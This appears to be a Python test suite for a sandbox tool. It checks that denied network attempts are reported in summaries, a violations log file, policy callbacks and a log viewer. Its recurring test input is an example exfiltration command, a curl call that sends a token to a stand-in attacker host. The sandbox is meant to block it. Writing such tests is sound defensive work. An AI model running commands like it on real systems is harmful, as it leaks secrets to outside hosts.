# SPDX-License-Identifier: Apache-2.0
"""What was denied is told: at the end, in a file, to the policy, and to who follows."""
import json
import os
import resource
import signal
import time

from lib import Case, as_everyone, main, need
from server import ADDRESS, Origin
from test_names import OwnHosts

DENIED = "curl -s -o /dev/null --max-time 10 http://evil.test/a?token=geheim"


class Violations(Case):
    @property
    def file(self):
        return os.path.join(self.home, ".local/state/srt-lua/violations/violations.jsonl")

    def policy(self, text, name="policy.lua"):
        """What the kernel denies is not observed here: libraries try things that no test is about."""
        return super().policy(text.replace("network = {", 'observe = "none", network = {', 1), name)

    def lines(self, path=None):
        with open(path or self.file, encoding="utf-8") as file:
            return [json.loads(line) for line in file]

    def report(self, script, policy, *options, **more):
        """What --report json says, and the run."""
        got = self.run_sh(script, policy, options=("--report", "json", *options), **more)
        return json.loads(got.err.splitlines()[-1]), got

    def policy_with(self, rest="", allowed='"good.test:443"'):
        return "{ network = { allowedDomains = { %s } }, %s }" % (allowed, rest)


class Told(Violations):
    @as_everyone
    def test_a_connection(self):
        need("curl")
        policy = self.policy(self.policy_with())
        report, got = self.report(DENIED + "; curl -s --max-time 10 https://evil.test; :", policy)
        self.assertEqual(2, report["denied"], got)
        for port, said, line in zip((80, 443), report["violations"], self.lines()):
            self.assertEqual(("connect", "evil.test:%d" % port, "network.allowedDomains", 1),
                             (said["kind"], said["target"], said["rule"], said["count"]))
            self.assertEqual('add "evil.test:%d" to network.allowedDomains' % port, said["advice"])
            self.assertIn("is not in network.allowedDomains", said["reason"])
            for key in ("kind", "target", "rule", "reason", "advice"):
                self.assertEqual(said[key], line[key])
            self.assertEqual(policy, line["policy"])
            self.assertEqual(line["command"], line["commandId"])
            self.assertTrue(line["command"].startswith("sh -c curl"))
            self.assertLess(abs(time.time() - time.mktime(time.strptime(
                line["time"][:19] + "UTC", "%Y-%m-%dT%H:%M:%S%Z")) + time.timezone), 60)
        self.assertEqual(0o600, os.stat(self.file).st_mode & 0o777)

    @as_everyone
    def test_requests_responses_and_callbacks(self):
        with Origin() as origin:
            policy = self.policy("""{ network = { allowedDomains = { "%s:%d" },
                filterRequest = function(req)
                  local path = req.path
                  if req.path == "/broken" then error("oops") end
                  if req.path == "/nonsense" then return 7 end
                  if req.path == "/denied" then return false, "not this" end
                  return srt.allow { onResponse = function() if path == "/seen" then error("seen") end end }
                end,
                filterResponse = function(res, req) if req.path == "/late" then return false, "not that" end return true end,
            } }""" % (ADDRESS, origin.port))
            paths = ("denied?token=geheim", "broken", "nonsense", "late", "fine", "seen")
            report, got = self.report("for p in %s; do curl -s -o /dev/null -w '%%{http_code} ' --max-time 10 %s/$p; done" % (
                " ".join("'%s'" % path for path in paths), origin.url), policy)
            self.assertEqual("403 403 403 502 200 200 ", got.out, got)
            want = (("request", "denied?…", "filterRequest", "not this"), ("callback", "broken", "filterRequest", "oops"),
                    ("callback", "nonsense", "filterRequest", "answered 7"),
                    ("response", "late", "filterResponse", "not that"), ("callback", "seen", "filterRequest", "seen"))
            self.assertEqual(len(want), len(report["violations"]), got)
            for (kind, path, rule, reason), said in zip(want, report["violations"]):
                self.assertEqual((kind, "GET %s/%s" % (origin.url, path), "network." + rule),
                                 (said["kind"], said["target"], said["rule"]))
                self.assertIn(reason, said["reason"])
                if path != "seen":
                    self.assertIn(policy + ":", said["origin"])

    @as_everyone
    def test_a_name(self):
        code = "import socket\ntry: socket.getaddrinfo('evil.test', 1)\nexcept OSError as e: print(e.errno)"
        got = self.run_srt(["/usr/bin/python3", "-c", code], self.policy_with(), options=("--report", "json"))
        said = json.loads(got.err.splitlines()[-1])["violations"][0]
        self.assertEqual(("name", "evil.test", 'add "evil.test" to network.allowedDomains'),
                         (said["kind"], said["target"], said["advice"]), got)

    @as_everyone
    def test_an_opaque_tunnel(self):
        code = r"""import socket
s = socket.create_connection(("127.0.0.1", 3128)); s.settimeout(10)
s.sendall(b"CONNECT %s:%d HTTP/1.1\r\n\r\n")
print(s.recv(4096)); s.sendall(b"\0\1\2neither\n"); print(s.recv(10))"""
        with Origin() as origin:
            policy = """{ network = { allowedDomains = { "%s:%d" }, refuseOpaqueTunnels = true,
                filterRequest = function() return true end } }""" % (ADDRESS, origin.port)
            got = self.run_srt(["/usr/bin/python3", "-c", code % (ADDRESS, origin.port)], policy,
                               options=("--report", "json"))
            said = json.loads(got.err.splitlines()[-1])["violations"]
            self.assertEqual([("connect", "%s:%d" % (ADDRESS, origin.port), "network.refuseOpaqueTunnels")],
                             [(v["kind"], v["target"], v["rule"]) for v in said], got)


class Addresses(OwnHosts, Violations):
    @as_everyone
    def test_an_address(self):
        policy = self.begin("*.example.com")
        report, got = self.report("curl -s --max-time 10 http://loop.example.com:81; curl -s --max-time 10 http://meta.example.com; :",
                                  policy)
        said = report["violations"]
        self.assertEqual([("address", "loop.example.com:81", "network.deniedResolvedAddresses"),
                          ("address", "meta.example.com:80", "network.deniedResolvedAddresses")],
                         [(v["kind"], v["target"], v["rule"]) for v in said], got)
        self.assertIn("resolved to a loopback address", said[0]["reason"])
        self.assertEqual('add "%s:81" to network.allowedDomains' % ADDRESS, said[0]["advice"])


class Callbacks(Violations):
    @as_everyone
    def test_on_violation(self):
        policy = self.policy("""local count = 0
            return { network = { allowedDomains = { "good.test:443" } },
              onViolation = function(v)
                count = count + 1
                srt.log.info(count, v.kind, v.target, v.rule, v.command, v.commandId, math.type(v.time) ~= nil)
                if v.target == "drop.test:80" then return false end
                if v.target == "fail.test:80" then error("broken hook") end
                if v.target == "slow.test:80" then srt.sleep(0.3) return false end
                if v.target == "ever.test:80" then srt.sleep(50) end
                if v.target == "spin.test:80" then while true do end end
              end }""")
        start = time.monotonic()
        report, got = self.report("for h in drop fail keep slow ever spin fail; do curl -s -o /dev/null http://$h.test; done; "
                                  "sleep 0.5", policy, "--command-id", "tool-1", "--command-text", "make it so")
        self.assertLess(time.monotonic() - start, 20)
        told = {v["target"]: v for v in report["violations"]}
        self.assertEqual({"fail.test:80", "keep.test:80", "ever.test:80", "spin.test:80", "onViolation"}, set(told), got)
        self.assertEqual((2, 1), (told["fail.test:80"]["count"], told["onViolation"]["count"]))
        self.assertEqual("callback", told["onViolation"]["kind"])
        self.assertIn("broken hook", told["onViolation"]["reason"])
        self.assertIn("connect drop.test:80 network.allowedDomains make it so tool-1 true", got.err.replace("\t", " "))
        self.assertEqual(sorted(v["target"] for v in self.lines()), sorted(list(told) + ["fail.test:80"]))

    @as_everyone
    def test_nobody_waits_for_it(self):
        policy = self.policy_with("onViolation = function() srt.sleep(20) end")
        start = time.monotonic()
        got = self.run_sh(DENIED + ";" + DENIED, policy)
        self.assertLess(time.monotonic() - start, 10)
        self.assertIn("denied: 2 attempts", got.err)

    @as_everyone
    def test_a_chain(self):
        policy = """{ extends = { { onViolation = function(v) srt.log.info("base") return v.target ~= "a.test:80" end } },
            network = { allowedDomains = { "x.test" } }, onViolation = function(v) srt.log.info("own") end }"""
        report, got = self.report("curl -s -o /dev/null http://a.test; curl -s -o /dev/null http://b.test; :", policy)
        self.assertEqual(["b.test:80"], [v["target"] for v in report["violations"]], got)
        self.assertEqual(["base", "own"] * 2, [word for word in got.err.split() if word in ("base", "own")])

    @as_everyone
    def test_ignored(self):
        rest = 'ignoreViolations = { ["*"] = { "one.test" }, ["make it"] = { "two.test:80" }, other = { "three.test" } }'
        script = "for h in one two three; do curl -s -o /dev/null http://$h.test; done; :"
        for options, want in (((), ["two.test:80", "three.test:80"]),
                              (("--command-text", "then make it so"), ["three.test:80"])):
            report, got = self.report(script, self.policy_with(rest), *options)
            self.assertEqual(want, [v["target"] for v in report["violations"]], got)
        got = self.run_srt(["check", self.policy(self.policy_with(rest))])
        self.assertIn('none with two.test:80 of a command with "make it"', got.out)

    @as_everyone
    def test_what_callbacks_know(self):
        policy = """{ network = { decideConnect = function(conn) return false, conn.command .. "/" .. tostring(conn.commandId) end } }"""
        for options, want in ((("--command-id", "7"), "sh -c " + DENIED + "/7"), (("--command-text", "x"), "x/nil")):
            report, got = self.report(DENIED, policy, *options)
            self.assertIn(want, report["violations"][0]["reason"], got)


class Summary(Violations):
    @as_everyone
    def test_text(self):
        got = self.run_sh("echo out; " + DENIED + ";" + DENIED, self.policy_with())
        self.assertEqual("out\n", got.out)
        self.assertEqual('\nsrt-lua: denied: 2 attempts\n'
                         'srt-lua:   connect evil.test:80 (2 times): add "evil.test:80" to network.allowedDomains\n', got.err)
        got = self.run_sh("for i in $(seq 30); do curl -s -o /dev/null http://h$i.test; done", self.policy_with())
        self.assertEqual(11, len(got.err.splitlines()), got)
        self.assertIn("and 22 more: srt-lua violations\n", got.err)

    @as_everyone
    def test_a_last_line_without_an_end(self):
        for how in ("json", "text"):
            got = self.run_sh("printf open >&2; " + DENIED, self.policy_with(), options=("--report", how))
            self.assertEqual("open", got.err.splitlines()[0], got)
        report, got = self.report("printf open >&2", self.policy_with())
        self.assertEqual((0, 2), (report["denied"], len(got.err.splitlines())), got)

    @as_everyone
    def test_the_same_again_and_again(self):
        """The file is bounded, and counts all."""
        code = r"""import socket
for i in range(400):
    s = socket.create_connection(("127.0.0.1", 3128)); s.sendall(b"CONNECT evil.test:%d HTTP/1.1\r\n\r\n" % (1 + i % 2)); s.recv(99)"""
        for more in ("", "onViolation = function() end"):
            got = self.run_srt(["/usr/bin/python3", "-c", code], self.policy(self.policy_with(more)), options=("--violations", "own"))
            lines = self.lines(self.path("w/own"))
            for port in 1, 2:
                counts = [line.get("count", 1) for line in lines if line["target"] == "evil.test:%d" % port]
                self.assertEqual((200, [1] * 8), (sum(counts), counts[:8]), got)
                self.assertLess(len(counts), 30)
            shown = self.run_srt(["violations", "own"]).out
            self.assertEqual(len(lines), len(shown.splitlines()))
            self.assertRegex(shown, r"connect +evil.test:1 \(8 times\): add ")
            os.unlink(self.path("w/own"))

    @as_everyone
    def test_quiet(self):
        for options in ((), ("--report", "text"), ("--report", "none"), ("--annotate",)):
            got = self.run_sh("echo out", self.policy_with(), options=options)
            self.assertEqual(("out\n", ""), (got.out, got.err))
        got = self.run_sh(DENIED, self.policy_with(), options=("--report", "none"))
        self.assertEqual("", got.err)
        report, got = self.report(":", self.policy_with())
        self.assertEqual((0, []), (report["denied"], report["violations"]))
        got = self.run_sh(":", "{}", options=("--report", "xml"))
        self.assertEqual(125, got.code)
        self.assertIn("text, json or none", got.err)

    @as_everyone
    def test_annotate(self):
        got = self.run_sh("echo err >&2; " + DENIED, self.policy_with(), options=("--annotate", "--command-id", "a" * 120))
        self.assertEqual('err\n\n<sandbox_violations>\ndeny network-outbound evil.test:80 (evil.test:80 is not in '
                         'network.allowedDomains; add "evil.test:80" to the policy to allow it)\n</sandbox_violations>\n', got.err)
        got = self.run_sh(DENIED, self.policy_with(), options=("--annotate", "--report", "json"))
        self.assertEqual(1, json.loads(got.err.splitlines()[-1])["denied"])
        self.assertIn("</sandbox_violations>\n", got.err)

    @as_everyone
    def test_no_secrets(self):
        policy = """{ secrets = { key = { env = "KEY", hosts = { "good.test" } } }, network = { allowedDomains = { "good.test" } } }"""
        self.write("w/script", DENIED)
        report, got = self.report("sh script; : sesame-sesame-123", policy, env={"KEY": "sesame-sesame-123"})
        self.assertEqual(1, report["denied"], got)
        with open(self.file, encoding="utf-8") as file:
            text = file.read()
        for hidden in ("sesame-sesame", "geheim"):
            self.assertNotIn(hidden, text + got.err)


class File(Violations):
    @as_everyone
    def test_can_not_be_changed_from_inside(self):
        policy = '{ filesystem = { allowWrite = { "~", "." } }, network = { allowedDomains = { "x.test" } } }'
        script = DENIED + """
            for f in %s; do cat $f; echo x >>$f; rm -f $f; mv $f $f.2; ln -sf /x $f; echo x >$(dirname $f)/new; done 2>/dev/null
            mv %s/.local/state/srt-lua %s/away 2>/dev/null; :"""
        for run in 1, 2:
            got = self.run_sh(script % (self.file, self.home, self.home), policy)
            self.assertEqual(run, len(self.lines()), got)
            self.assertEqual(["violations.jsonl"], os.listdir(os.path.dirname(self.file)))
        # What other runs have met is not for this one.
        self.assertEqual("", got.out)
        own = self.path("w/own.jsonl")
        for run in 1, 2:
            got = self.run_sh(script % ("own.jsonl", "/nowhere", "/nowhere"), policy, options=("--violations", "own.jsonl"))
            self.assertEqual(run, len(self.lines(own)), got)
            self.assertEqual(["own.jsonl"], [name for name in os.listdir(self.w) if "own" in name])
            os.unlink(self.path("w/new"))

    @as_everyone
    def test_none(self):
        got = self.run_sh(DENIED, self.policy_with(), options=("--violations", "none"))
        self.assertIn("denied: one attempt", got.err)
        self.assertFalse(os.path.exists(self.file))

    @as_everyone
    def test_what_can_not_be_written_fails_nothing(self):
        victim = self.write("w/victim", "as it was\n")
        os.symlink(victim, self.path("w/link"))
        os.link(victim, self.path("w/second"))
        os.mkfifo(self.path("w/fifo"))
        got = self.run_sh("echo out; %s; %s; exit 3" % (DENIED, DENIED), self.policy_with(), options=("--violations", "/dev/full"))
        self.assertEqual((3, "out\n"), (got.code, got.out), got)
        self.assertEqual(1, got.err.count("warning:"), got)
        self.assertIn("No space left", got.err.splitlines()[0])
        self.assertIn("denied: 2 attempts", got.err)
        # What can't be opened was named in vain: then nothing is run.
        for path, word in (("link", "symbolic link"), ("second", "no plain file"), ("fifo", ""), ("/nosuch/x", "No such file"),
                           (".", "directory")):
            for option in ("--violations", "--log"):
                got = self.run_sh("echo out", self.policy_with(), options=(option, path))
                self.assertEqual((125, ""), (got.code, got.out), got)
                self.assertIn("%s %s" % (option, self.path("w", path) if path != "." else self.w), got.err)
                self.assertIn(word, got.err)
        self.assertEqual("as it was\n", self.read("w/victim"))
        # A limit on the size of files, which a signal would tell.
        size = 3000 + len(self.file) * 20
        got = self.run_sh("for i in $(seq 60); do curl -s -o /dev/null http://h$i.test; done; ulimit -f; exit 3", self.policy_with(),
                          preexec=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (16384, 16384)))
        self.assertEqual((3, 1), (got.code, got.err.count("warning:")), (size, got))
        self.assertIn("denied: 60 attempts", got.err)

    @as_everyone
    def test_read_only(self):
        """No folder can be made where the file would be."""
        os.makedirs(os.path.dirname(os.path.dirname(self.file)))
        self.write("home/.local/state/srt-lua/violations", "in the way")
        self.own(self.home)
        got = self.run_sh(DENIED + "; exit 3", self.policy_with())
        self.assertEqual((3, 1), (got.code, got.err.count("warning:")), got)
        self.assertIn("denied: one attempt", got.err)

    @as_everyone
    def test_turned(self):
        self.run_sh(DENIED, self.policy_with())
        with open(self.file, "a", encoding="utf-8") as file:
            file.truncate(8 << 20)
        self.run_sh(DENIED, self.policy_with())
        self.assertEqual((1, 8 << 20), (len(self.lines()), os.path.getsize(self.file + ".1")))
        got = self.run_srt(["violations", "--json"])
        self.assertEqual(2, len(got.out.splitlines()), got)

    @as_everyone
    def test_several_runs_at_once(self):
        script = "for i in $(seq 10); do curl -s -o /dev/null http://h$i.test; done"
        policy = self.policy(self.policy_with())
        runs = [self.start(["sh", "-c", script], policy, options=("--command-id", str(i))) for i in range(4)]
        for run in runs:
            run.communicate(timeout=60)
        lines = self.lines()
        self.assertEqual([str(i) for i in range(4) for _ in range(10)], sorted(line["commandId"] for line in lines))


class Shown(Violations):
    def follow(self, *arguments):
        out = self.path("followed")
        with open(out, "wb") as file:
            process = self.start(["violations", "--follow", *arguments], stdout=file)
        self.addCleanup(lambda: process.poll() is None and process.kill())
        return process, out

    def wait_for(self, path, count):
        end = time.monotonic() + 20
        while time.monotonic() < end:
            with open(path, encoding="utf-8") as file:
                lines = file.read().splitlines()
            if len(lines) >= count:
                return lines
            time.sleep(0.05)
        raise AssertionError("only %r" % lines)

    @as_everyone
    def test_shown(self):
        got = self.run_srt(["violations"])
        self.assertEqual((0, "", ""), (got.code, got.out, got.err))
        self.run_sh(DENIED, self.policy_with(), options=("--command-text", "my \33[31mcommand"))
        with open(self.file, "a", encoding="utf-8") as file:
            file.write('{"kind":"cut off\n{"kind":7}\nnot json\n{"kind":"x","target":"\\u001b[31m"}\n{"kind":')
        got = self.run_srt(["violations"])
        self.assertRegex(got.out, r'^\d{4}-\S+Z connect   evil.test:80: add "evil.test:80" to network.allowedDomains  '
                                  r'\[\S+/curl in my  \[31mcommand\]\n'
                                  r"\? x          \[31m: denied  \[\?\]\n$")
        got = self.run_srt(["violations", "--json", self.file])
        self.assertEqual(["connect", "x"], [json.loads(line)["kind"] for line in got.out.splitlines()])
        for arguments, code, word in ((["--nosuch"], 125, "--nosuch"), (["a", "b"], 125, "one file"), (["--help"], 0, ""),
                                      (["/nosuch"], 1, "/nosuch can't be read: No such file"),
                                      (["/"], 1, "it is a directory"), (["/etc/passwd"], 1, "has no violations in it")):
            got = self.run_srt(["violations", *arguments])
            self.assertEqual(code, got.code, got)
            self.assertIn(word, got.err)

    @as_everyone
    def test_followed(self):
        process, out = self.follow()
        self.run_sh(DENIED, self.policy_with())
        self.assertIn("evil.test:80", self.wait_for(out, 1)[0])
        with open(self.file, "a", encoding="utf-8") as file:
            file.truncate(8 << 20)
        self.run_sh("curl -s -o /dev/null http://new.test", self.policy_with())
        self.assertIn("new.test:80", self.wait_for(out, 2)[1])
        process.send_signal(signal.SIGINT)
        _, err = process.communicate(timeout=10)
        self.assertEqual((-signal.SIGINT, b""), (process.returncode, err))

    @as_everyone
    def test_last(self):
        """Old ones are left out: by --last, and by --follow."""
        file = self.path("list")
        def lines(name, first, last):
            with open(name, "a", encoding="utf-8") as out:
                out.write("".join('{"kind":"connect","target":"h:%d"}\n' % i for i in range(first, last)))
            self.own(name)
        lines(file + ".1", 0, 15), lines(file, 15, 20)
        def shown(*arguments):
            got = self.run_srt(["violations", "--json", *arguments, file])
            self.assertEqual((0, ""), (got.code, got.err), got)
            return [int(json.loads(line)["target"][2:]) for line in got.out.splitlines()]
        for count, want in ((0, []), (3, [17, 18, 19]), (5, list(range(15, 20))), (7, list(range(13, 20))), (100, list(range(20)))):
            self.assertEqual(want, shown("--last", str(count)))
        self.assertEqual(list(range(20)), shown())
        for wrong in (["--last"], ["--last", "-1"], ["--last", "x"]):
            self.assertEqual(125, self.run_srt(["violations", *wrong]).code)
        for arguments, first in (((), 10), (("--last", "2"), 18)):
            process, out = self.follow("--json", *arguments, file)
            self.wait_for(out, 20 - first)
            time.sleep(0.5)
            lines(file, 20, 21)
            got = [int(json.loads(line)["target"][2:]) for line in self.wait_for(out, 21 - first)]
            self.assertEqual(list(range(first, 21)), got)
            process.send_signal(signal.SIGINT)
            process.communicate(timeout=10)
            with open(file, "r+", encoding="utf-8") as kept:
                kept.truncate(sum(len(line) for line in kept.readlines()[:5]))

    @as_everyone
    def test_nobody_reads_on(self):
        self.run_sh(DENIED, self.policy_with())
        process = self.start(["violations", "--follow"])
        process.stdout.readline()
        process.stdout.close()
        self.run_sh(DENIED, self.policy_with())
        process.wait(20)
        process.stderr.close()
        self.assertNotEqual(0, process.returncode)


if __name__ == "__main__":
    main()
